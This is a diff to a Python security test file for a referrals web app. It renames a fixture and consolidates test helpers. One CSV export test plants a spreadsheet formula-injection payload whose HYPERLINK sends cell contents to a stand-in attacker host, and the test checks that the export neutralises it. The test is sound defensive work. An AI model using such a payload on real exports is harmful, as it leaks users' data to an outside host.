@@ -15,34 +15,25 @@ from fieldapp import trusted_hosts
 from fieldapp.db import connect
 from fieldapp.referrals import lifecycle, mail, store
 from fieldapp.security import CSP
-from tests.conftest import DEMO_PASSWORD, login, make_app
-from tests.test_referrals_mail import (  # noqa: F401  (smtp: fixture)
-    body_of,
-    forget_queued_mail,
-    link_path,
-    send_mail,
-    smtp,
-)
-from tests.test_referrals_support import (
+from tests.support import DEMO_PASSWORD, NOW, login, make_app
+from tests.support.referrals import (
     OFFICER2_ID,
     OFFICER_ID,
     PARTNER_ID,
     SVC_CRISIS,
     add_contact,
     add_services,
+    body_of,
     client_for,
-    frozen,
+    forget_queued_mail,
     referral_item,
+    send_mail,
     user_row,
 )
 
-NOW = "2026-03-02T14:00:00+00:00"
 HX = {"HX-Request": "true"}
 PREFERRED = "CANARY-preferred-contact-3e1f"
 BASE_URL = "https://fieldapp.example.org"
-
-
-_ = frozen  # the fixture, shared with the other referral tests (test_referrals_support)
 
 
 def send(app, db, **overrides) -> str:
@@ -75,8 +66,8 @@ def csv_cells(response) -> list[list[str]]:
 # --- 6. CSV formula injection ------------------------------------------------------------------
 
 
-def test_referrals_export_csv_writes_formula_like_cells_as_text(frozen):
-    app, db = frozen
+def test_referrals_export_csv_writes_formula_like_cells_as_text(referral_app):
+    app, db = referral_app
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     db["service"].update(SVC_CRISIS, {"name": formula})
     send(app, db)
@@ -91,7 +82,7 @@ def test_referrals_export_csv_writes_formula_like_cells_as_text(frozen):
 
 
 @pytest.fixture
-def mail_app(tmp_path, smtp):  # noqa: F811
+def mail_app(tmp_path, smtp):
     """An app that mails to the aiosmtpd sink; config per test."""
     inbox, port = smtp
 
@@ -198,8 +189,8 @@ def test_trusted_hosts_come_from_config_else_base_url_or_server_name_else_anythi
     assert trusted_hosts({"TRUSTED_HOSTS": ["a.example"]}) == ["a.example"]
 
 
-def test_without_trusted_hosts_the_test_client_and_local_addresses_still_work(frozen):
-    app, _ = frozen
+def test_without_trusted_hosts_the_test_client_and_local_addresses_still_work(referral_app):
+    app, _ = referral_app
     assert app.config["TRUSTED_HOSTS"] is None
     for base in ("http://localhost", "http://127.0.0.1:5000"):
         assert 200 == app.test_client().get("/login", base_url=base).status_code
@@ -208,8 +199,8 @@ def test_without_trusted_hosts_the_test_client_and_local_addresses_still_work(fr
 # --- 10. the status filter; error pages carry the CSP -------------------------------------------
 
 
-def test_partner_filters_the_inbox_by_status_and_odd_values_are_ignored(frozen):
-    app, db = frozen
+def test_partner_filters_the_inbox_by_status_and_odd_values_are_ignored(referral_app):
+    app, db = referral_app
     open_one, accepted = send(app, db), send(app, db)
     with app.app_context():
         lifecycle.transition(db, accepted, "accept", user=user_row(db, PARTNER_ID), now=NOW)
@@ -268,8 +259,8 @@ def test_every_error_page_carries_the_csp_500_included(failing_app):
 # --- 13. the preferred contact follows consent -----------------------------------------------
 
 
-def test_preferred_contact_reaches_the_partner_only_with_the_shared_phone(frozen):
-    app, db = frozen
+def test_preferred_contact_reaches_the_partner_only_with_the_shared_phone(referral_app):
+    app, db = referral_app
     without_phone = send(app, db, shared=["name", "note"], preferred_contact=PREFERRED)
     assert db["referral"].get(without_phone)["preferred_contact"] is None  # not even stored
     # A row stored before the fix (or an information-only one) still shows nothing.
@@ -310,8 +301,8 @@ def test_the_e_mail_never_carries_the_preferred_contact(mail_app):
 # --- 14. another officer's contact on the referral form ------------------------------------------
 
 
-def test_another_officers_contact_id_is_treated_as_absent_on_the_referral_form(frozen):
-    app, db = frozen
+def test_another_officers_contact_id_is_treated_as_absent_on_the_referral_form(referral_app):
+    app, db = referral_app
     theirs = add_contact(db, officer_id=OFFICER2_ID, kind="mental_health")
     mine = add_contact(db, kind="mental_health")
     officer = client_for(app, "officer")
@@ -329,8 +320,8 @@ def test_another_officers_contact_id_is_treated_as_absent_on_the_referral_form(f
 # --- 15. a synced referral's creation time ----------------------------------------------------
 
 
-def test_sync_refuses_a_referral_created_in_the_future_or_before_2000_like_a_contact(frozen):
-    app, db = frozen
+def test_sync_refuses_a_referral_created_in_the_future_or_before_2000_like_a_contact(referral_app):
+    app, db = referral_app
     officer = client_for(app, "officer")
     items = [referral_item(created_at="2099-01-01T00:00:00+00:00"),
              referral_item(created_at="1999-12-31T23:59:59+00:00"),
@@ -348,8 +339,8 @@ def test_sync_refuses_a_referral_created_in_the_future_or_before_2000_like_a_con
 # --- 16. no GET changes a referral ------------------------------------------------------------
 
 
-def test_opening_a_referral_as_the_partner_changes_nothing(frozen):
-    app, db = frozen
+def test_opening_a_referral_as_the_partner_changes_nothing(referral_app):
+    app, db = referral_app
     x = send(app, db)
     before = rows_of(db, x)
     partner = client_for(app, "partner")
@@ -363,8 +354,8 @@ def test_opening_a_referral_as_the_partner_changes_nothing(frozen):
                                  db["referral"].get(x)["received_at"])
 
 
-def test_mark_received_from_the_status_fragment_swaps_it_in_place(frozen):
-    app, db = frozen
+def test_mark_received_from_the_status_fragment_swaps_it_in_place(referral_app):
+    app, db = referral_app
     x = send(app, db)
     response = client_for(app, "partner").post(f"/referrals/{x}/receive",
                                                data={"fragment": "status"}, headers=HX)
@@ -374,9 +365,9 @@ def test_mark_received_from_the_status_fragment_swaps_it_in_place(frozen):
 
 
 @pytest.mark.parametrize("accept_from_email", [False, True])
-def test_opening_the_e_mailed_link_changes_nothing_and_the_button_posts(frozen,
+def test_opening_the_e_mailed_link_changes_nothing_and_the_button_posts(referral_app,
                                                                         accept_from_email):
-    app, db = frozen
+    app, db = referral_app
     x = send(app, db)
     partner = client_for(app, "partner")
     if accept_from_email:
@@ -399,8 +390,8 @@ def test_opening_the_e_mailed_link_changes_nothing_and_the_button_posts(frozen,
         e["to_status"] for e in events]
 
 
-def test_the_audit_trail_records_who_used_the_link_and_not_who_read_it(frozen):
-    app, db = frozen
+def test_the_audit_trail_records_who_used_the_link_and_not_who_read_it(referral_app):
+    app, db = referral_app
     x = send(app, db)
     partner = client_for(app, "partner")
     path = f"/referrals/link/{token_of(app, db, x)}"
